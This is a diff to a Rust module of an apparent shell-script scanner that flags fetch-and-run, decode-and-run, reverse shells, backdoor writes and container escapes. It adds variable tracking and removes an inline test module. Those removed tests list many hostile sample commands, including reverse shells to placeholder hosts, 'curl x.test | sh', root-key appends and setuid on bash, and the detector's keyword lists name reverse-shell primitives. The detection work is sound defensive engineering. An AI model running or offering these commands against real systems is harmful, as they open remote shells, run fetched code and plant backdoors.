@@ -1,12 +1,15 @@
 //! From commands to what they do.
 
-use std::collections::HashSet;
+use std::borrow::Cow;
+use std::collections::{HashMap, HashSet};
 
 use pratique_core::Severity;
 
+use super::fetched::{fetches, files};
 use super::plain::{Plain, SHELLS, base};
+use super::variables::{MAX_VARIABLES, Variables, assignments, variable};
 use super::words::{Command, Pipeline, Word, parse};
-use super::{MAX_ACTS, MAX_DEPTH, hidden_place};
+use super::{MAX_ACTS, MAX_DEPTH, hidden_place, node};
 
 /// Something that a script does and that few honest ones do.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -37,6 +40,8 @@ pub(crate) enum ActKind {
     RaisesPrivilege,
     /// A kernel module that no package manager knows is loaded.
     LoadsModule,
+    /// A container is started that has the node in its hand, or the container is left for it.
+    TakesNode,
 }
 
 impl ActKind {
@@ -47,7 +52,8 @@ impl ActKind {
             | Self::FetchAndRun
             | Self::DecodeAndRun
             | Self::HiddenProgram
-            | Self::OpensAccess => Severity::High,
+            | Self::OpensAccess
+            | Self::TakesNode => Severity::High,
             Self::RaisesPrivilege | Self::LoadsModule => Severity::Medium,
         }
     }
@@ -63,6 +69,7 @@ impl ActKind {
             Self::OpensAccess => "writes a file that decides who gets in",
             Self::RaisesPrivilege => "gives a file privileges",
             Self::LoadsModule => "loads a kernel module from a file",
+            Self::TakesNode => "takes hold of the node from a container",
         }
     }
 }
@@ -70,20 +77,22 @@ impl ActKind {
 /// What a script does, in its order; false if not all of it was read.
 pub(crate) fn acts(script: &str) -> (Vec<Act>, bool) {
     let (pipelines, whole) = parse(script);
-    let mut found = Found { acts: Vec::new(), whole, fetched: HashSet::new() };
+    let mut found = Found { whole, ..Found::default() };
     found.list(&pipelines, 0);
     let full = found.acts.len() > MAX_ACTS;
     found.acts.truncate(MAX_ACTS);
     (found.acts, found.whole && !full)
 }
 
-const FETCHERS: [&str; 9] =
-    ["curl", "wget", "fetch", "aria2c", "axel", "lwp-download", "lynx", "ftpget", "tftp"];
+#[derive(Default)]
 struct Found {
     acts: Vec<Act>,
     whole: bool,
     /// Files that were fetched so far.
     fetched: HashSet<String>,
+    /// Variables that hold what was fetched or decoded, and by which program.
+    held: HashMap<String, (ActKind, String)>,
+    variables: Variables,
 }
 
 impl Found {
@@ -106,44 +115,90 @@ impl Found {
     }
 
     fn pipeline(&mut self, pipeline: &Pipeline, depth: usize) {
-        let plain: Vec<Plain<'_>> = pipeline.iter().filter_map(Plain::of).collect();
-        for (place, command) in plain.iter().enumerate() {
-            // `curl x | sh`, and what lies between: `curl x | tar -xz | sh` is a shell that reads what was fetched.
+        let expanded: Vec<Cow<'_, Command>> =
+            pipeline.iter().map(|command| self.variables.expand(command)).collect();
+        let plain: Vec<Plain<'_>> = expanded.iter().filter_map(|command| Plain::of(command)).collect();
+        // What was worst of all that went before.
+        let mut before: Option<(ActKind, String)> = None;
+        let mut after_shell = false;
+        for command in &plain {
+            // `curl x | sh`, and what lies between: `curl x | tar -xz | sh` is a shell that reads what was fetched; `sh < <(curl x)`.
             let reads_input = command.runs_code()
                 && command.script().is_none()
                 && command.file().is_none_or(|file| matches!(file, "/dev/stdin" | "-"));
             if reads_input {
-                let before = &plain[..place];
-                if let Some(peer) = before.iter().find(|one| is_peer(one)) {
-                    self.add(ActKind::ReverseShell, command.command.line, &peer.name);
-                } else if let Some(fetcher) = before.iter().find(|one| fetches(one)) {
-                    self.add(
-                        ActKind::FetchAndRun,
-                        command.command.line,
-                        &format!("{} | {}", fetcher.name, command.name),
-                    );
-                } else if let Some(decoder) = before.iter().find(|one| decodes(one)) {
-                    self.add(
-                        ActKind::DecodeAndRun,
-                        command.command.line,
-                        &format!("{} | {}", decoder.name, command.name),
-                    );
+                let line = command.command.line;
+                if let Some((kind, by)) = &before {
+                    self.add(*kind, line, &format!("{by} | {}", command.name));
+                }
+                for inner in command.command.redirections.iter().flat_map(|word| word.inner.iter().flatten())
+                {
+                    if let Some((kind, by)) = self.source_of(inner) {
+                        self.add(kind, line, &format!("{} $({by})", command.name));
+                    }
                 }
             }
             // `cat /tmp/f | sh -i | nc host 1 > /tmp/f`, with a named pipe.
-            if is_peer(command) && plain[..place].iter().any(Plain::is_shell) {
+            if is_peer(command) && after_shell {
                 self.add(ActKind::ReverseShell, command.command.line, &command.name);
             }
+            after_shell |= command.is_shell();
+            before = before.into_iter().chain(self.source(command)).min_by_key(|(kind, _)| *kind);
             self.command(command, depth);
         }
-        for command in pipeline {
+        for command in &expanded {
             self.redirections(command);
+            self.hold(command);
             for word in command.words.iter().chain(&command.redirections) {
                 for inner in &word.inner {
                     self.list(inner, depth + 1);
                 }
             }
         }
+    }
+
+    /// What a command hands to the next one of its pipeline that is not as it lies in the image, and by which program.
+    fn source(&self, plain: &Plain<'_>) -> Option<(ActKind, String)> {
+        let kind = if is_peer(plain) {
+            ActKind::ReverseShell
+        } else if fetches(plain) {
+            ActKind::FetchAndRun
+        } else if decodes(plain) {
+            ActKind::DecodeAndRun
+        } else if matches!(plain.name.as_str(), "echo" | "printf") {
+            return plain.arguments.iter().find_map(|word| self.holds(&word.text));
+        } else {
+            return None;
+        };
+        Some((kind, plain.name.clone()))
+    }
+
+    /// The same of a pipeline whose output is taken.
+    fn source_of(&self, pipeline: &Pipeline) -> Option<(ActKind, String)> {
+        let expanded: Vec<Cow<'_, Command>> =
+            pipeline.iter().map(|command| self.variables.expand(command)).collect();
+        let plain = expanded.iter().filter_map(|command| Plain::of(command));
+        // The first of the worst.
+        let source = plain.filter_map(|command| self.source(&command)).min_by_key(|(kind, _)| *kind);
+        source.filter(|(kind, _)| *kind != ActKind::ReverseShell)
+    }
+
+    /// What the variable holds that is all of a word.
+    fn holds(&self, text: &str) -> Option<(ActKind, String)> {
+        self.held.get(variable(text)?.0).cloned()
+    }
+
+    /// Takes what a command sets: words, and what it fetched or decoded.
+    fn hold(&mut self, command: &Command) {
+        for (name, _, word) in assignments(command) {
+            match word.inner.iter().flatten().find_map(|inner| self.source_of(inner)) {
+                Some(source) if self.held.len() < MAX_VARIABLES => {
+                    _ = self.held.insert(name.to_owned(), source)
+                }
+                _ => _ = self.held.remove(name),
+            }
+        }
+        self.variables.set(command);
     }
 
     fn redirections(&mut self, command: &Command) {
@@ -174,15 +229,25 @@ impl Found {
             (_, None) if plain.runs_code() => plain.arguments.iter().collect(),
             _ => Vec::new(),
         };
+        let mut sources: Vec<(ActKind, String)> = Vec::new();
         for word in &code {
-            for pipeline in word.inner.iter().flatten() {
-                let inner: Vec<Plain<'_>> = pipeline.iter().filter_map(Plain::of).collect();
-                if let Some(fetcher) = inner.iter().find(|one| fetches(one)) {
-                    self.add(ActKind::FetchAndRun, line, &format!("{} $({})", plain.name, fetcher.name));
-                } else if let Some(decoder) = inner.iter().find(|one| decodes(one)) {
-                    self.add(ActKind::DecodeAndRun, line, &format!("{} $({})", plain.name, decoder.name));
-                }
-            }
+            sources.extend(word.inner.iter().flatten().filter_map(|inner| self.source_of(inner)));
+            // Of a shell's script the variable is found as a command of it.
+            sources.extend(self.holds(&word.text).filter(|_| plain.runs_code() && !plain.is_shell()));
+        }
+        for (kind, by) in sources {
+            self.add(kind, line, &format!("{} $({by})", plain.name));
+        }
+        // `$(curl x)` as a command, or a variable that holds what it said.
+        let program = plain.command.words.iter().find(|word| std::ptr::eq(&*word.text, plain.program));
+        let said = program
+            .filter(|word| word.text.is_empty())
+            .and_then(|word| word.inner.iter().flatten().find_map(|inner| self.source_of(inner)));
+        if let Some((kind, by)) = said.or_else(|| self.holds(plain.program)) {
+            self.add(kind, line, &format!("$({by})"));
+        }
+        if node::takes(plain) {
+            self.add(ActKind::TakesNode, line, &plain.name);
         }
         let scripts = plain.shell_scripts();
         for script in &scripts {
@@ -229,26 +294,8 @@ impl Found {
             let place = arguments().position(|text| options.contains(&text))?;
             arguments().nth(place + 1)
         };
+        self.fetched.extend(files(plain));
         match plain.name.as_str() {
-            "curl" | "wget" | "aria2c" => {
-                let target = after(&["-o", "-O", "--output", "--output-document"])
-                    .filter(|target| !target.starts_with('-'));
-                let is_address = |text: &str| text.contains("://");
-                let named = arguments().find(|text| is_address(text)).and_then(|url| url.rsplit('/').next());
-                let keeps_name =
-                    plain.name == "wget" || plain.has(&["-O", "--remote-name", "-LO", "-sSLO", "-fsSLO"]);
-                let redirected = plain
-                    .command
-                    .redirections
-                    .iter()
-                    .map(|word| word.text.as_str())
-                    .find(|text| !text.starts_with("/dev/"));
-                let target = target
-                    .filter(|target| !is_address(target))
-                    .or(redirected)
-                    .or(named.filter(|_| keeps_name));
-                self.fetched.extend(target.filter(|target| !target.is_empty()).map(str::to_owned));
-            }
             "tee" => {
                 for target in arguments().filter(|text| decides_access(text)) {
                     self.add(ActKind::OpensAccess, line, target);
@@ -280,11 +327,6 @@ impl Found {
             _ => {}
         }
     }
-}
-
-fn fetches(plain: &Plain<'_>) -> bool {
-    FETCHERS.contains(&plain.name.as_str())
-        || (plain.name == "busybox" && plain.arguments.first().is_some_and(|word| word.text == "wget"))
 }
 
 fn decodes(plain: &Plain<'_>) -> bool {
@@ -350,7 +392,19 @@ fn runs_what_a_peer_says(program: &str) -> bool {
 pub(crate) fn foreign_code(code: &str) -> Option<ActKind> {
     let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
     let connects = has(&["socket", "Socket", "fsockopen"]);
-    if connects && has(&["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "subprocess", "child_process"]) {
+    if connects
+        && has(&[
+            "dup2",
+            "pty.spawn",
+            "/bin/sh",
+            "/bin/bash",
+            "subprocess",
+            "child_process",
+            "os.execute(",
+            "io.popen(",
+            "STDIN->fdopen",
+        ])
+    {
         return Some(ActKind::ReverseShell);
     }
     // PHP and Ruby have their own words for both.
@@ -413,131 +467,4 @@ fn decides_access(path: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn kinds(script: &str) -> Vec<ActKind> {
-        let (acts, whole) = acts(script);
-        assert!(whole, "{script}");
-        acts.into_iter().map(|act| act.kind).collect()
-    }
-
-    #[test]
-    fn what_is_done_is_told() {
-        use ActKind::*;
-        for (script, kind) in [
-            ("curl -fsSL http://x.test/i.sh | sh", FetchAndRun),
-            ("wget -qO- x.test/a|sudo -E bash -s -- -y", FetchAndRun),
-            ("curl x.test/a | bash -s stable", FetchAndRun),
-            ("curl x.test/a | bash -x -", FetchAndRun),
-            ("curl x.test/a | busybox sh", FetchAndRun),
-            ("bash -x -c 'curl x.test | sh'", FetchAndRun),
-            ("bash -exo pipefail -c 'curl x.test | sh'", FetchAndRun),
-            ("sh -c -e 'curl x.test | sh'", FetchAndRun),
-            ("bash -cx -- 'curl x.test | sh'", FetchAndRun),
-            ("busybox sh -c 'curl x.test | sh'", FetchAndRun),
-            ("curl -o a x.test/a; bash -x a", FetchAndRun),
-            ("sh -c \"$(curl -fsSL https://x.test/i)\"", FetchAndRun),
-            ("bash <(curl -s https://x.test/i)", FetchAndRun),
-            ("eval `wget -O - x.test`", FetchAndRun),
-            ("source <(curl -s x.test)", FetchAndRun),
-            ("curl x.test/p.py | python3", FetchAndRun),
-            ("curl -o /opt/x http://x.test/x && chmod +x /opt/x && /opt/x", FetchAndRun),
-            ("wget http://x.test/run.sh\nsh run.sh", FetchAndRun),
-            ("if true; then curl x.test | sh; fi", FetchAndRun),
-            ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ReverseShell),
-            ("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' &", ReverseShell),
-            ("exec 5<>/dev/tcp/192.0.2.1/443", OpensConnection),
-            ("exec bash -i 0<>/dev/tcp/192.0.2.1/443", ReverseShell),
-            ("nc -e /bin/sh 192.0.2.1 443", ReverseShell),
-            ("ncat 192.0.2.1 443 --exec /bin/bash", ReverseShell),
-            ("socat TCP:192.0.2.1:443 EXEC:/bin/bash,pty", ReverseShell),
-            ("rm -f /run/f; mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 192.0.2.1 443 >/run/f", ReverseShell),
-            ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", ReverseShell),
-            ("perl -e 'use Socket;exec(\"/bin/sh -i\")'", ReverseShell),
-            ("php -r '$s=fsockopen(\"192.0.2.1\",443);exec(\"sh <&3 >&3\");'", ReverseShell),
-            ("ruby -rsocket -e 'c=TCPSocket.new(\"x.test\",443);loop{c.print `#{c.gets}`}'", ReverseShell),
-            (
-                "gawk 'BEGIN{s=\"/inet/tcp/0/x.test/443\";s|&getline c;while((c|getline l)>0)print l|&s}'",
-                ReverseShell,
-            ),
-            ("python3 -c 'import os;os.system(\"curl x.test | sh\")'", FetchAndRun),
-            ("echo aWQ= | base64 -d | bash", DecodeAndRun),
-            ("eval \"$(echo aWQ= | base64 --decode)\"", DecodeAndRun),
-            ("python3 -c \"exec(__import__('base64').b64decode('aWQ='))\"", DecodeAndRun),
-            ("/tmp/.x/miner -q", HiddenProgram),
-            ("nice -n 19 /dev/shm/k", HiddenProgram),
-            ("/dev/shm/sh /etc/x.conf", HiddenProgram),
-            ("/tmp/python3 -m http.server", HiddenProgram),
-            ("sh /var/tmp/a.sh", HiddenProgram),
-            ("/usr/lib/.cache/d", HiddenProgram),
-            ("echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys", OpensAccess),
-            ("echo x | tee -a /etc/ld.so.preload", OpensAccess),
-            ("useradd -o -u 0 helper", OpensAccess),
-            ("chmod u+s /bin/bash", RaisesPrivilege),
-            ("chmod 04755 /bin/bash", RaisesPrivilege),
-            ("insmod /lib/x.ko", LoadsModule),
-            ("bash <<EOF\ncurl x.test | sh\nEOF", FetchAndRun),
-            ("cur\\\nl x.test | s'h'", FetchAndRun),
-        ] {
-            assert_eq!(kinds(script), [kind], "{script}");
-        }
-    }
-
-    #[test]
-    fn what_only_looks_like_it_is_not() {
-        for script in [
-            "# curl x | sh",
-            "echo done # curl x | sh",
-            "echo 'curl x | sh'",
-            "echo \"run: bash -i >& /dev/tcp/1.2.3.4/1\"",
-            "cat <<'EOF'\ncurl x | sh\nEOF\necho",
-            "curl -o x.tar https://x.test/x.tar && tar xf x.tar",
-            "curl -s https://x.test/v | grep -o v1 | sort",
-            "curl https://x.test/key | gpg --dearmor > /etc/apt/keyrings/x.gpg",
-            "echo aWQ= | base64 -d > /etc/x",
-            "nc -z db 5432",
-            "nc -lk 8080",
-            "timeout 1 bash -c 'echo > /dev/tcp/db/5432' 2>/dev/null",
-            "rm -rf /tmp/build /var/tmp/*",
-            "mkdir -p /tmp/x && cd /tmp/x",
-            "/root/.cargo/bin/tool",
-            "chmod 755 /usr/bin/x; chmod +x y; chmod g+s /var/mail",
-            "grep root /etc/passwd",
-            "test -f /etc/ld.so.preload && cat /etc/ld.so.preload",
-            "bash -c 'echo ok'",
-            "bash -o errexit run.sh -c 'curl x.test | sh'",
-            "curl x.test/a | busybox tar x",
-            "curl x.test/a | bash check.sh -s",
-            "python3 -c 'import socket; print(socket.gethostname())'",
-            "php -r '$s = fsockopen(\"db\", 3306); exit($s ? 0 : 1);'",
-            "ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close'",
-            "gawk 'BEGIN { s = \"/inet/tcp/0/db/13\"; s |& getline; print }'",
-            "python3 -c 'import os; os.system(\"curl x.test > a\")'",
-            "python3 -m http.server",
-            "case $1 in start) /usr/sbin/daemon;; esac",
-            "x=$((1 + 2)); echo ${x%%(*}",
-        ] {
-            assert_eq!(kinds(script), [], "{script}");
-        }
-    }
-
-    #[test]
-    fn hostile_scripts_end() {
-        for script in [
-            "$(".repeat(100_000),
-            "`".repeat(100_001),
-            "'".to_owned() + &"a".repeat(1 << 20),
-            "a|".repeat(300_000),
-            "((((".repeat(50_000),
-            "cat <<E\n".repeat(20_000),
-            "\"$(\"".repeat(10_000),
-            "sh -c 'sh -c \"sh -c sh\"'\n".repeat(1000),
-            // Each of what is run may be any of what was fetched.
-            (0..20_000).map(|n| format!("curl -o a{n} x.test;./b{n};")).collect(),
-        ] {
-            acts(&script);
-        }
-        assert!(!acts(&"$(".repeat(100)).1, "what is nested too deep was not read");
-    }
-}
+mod tests;
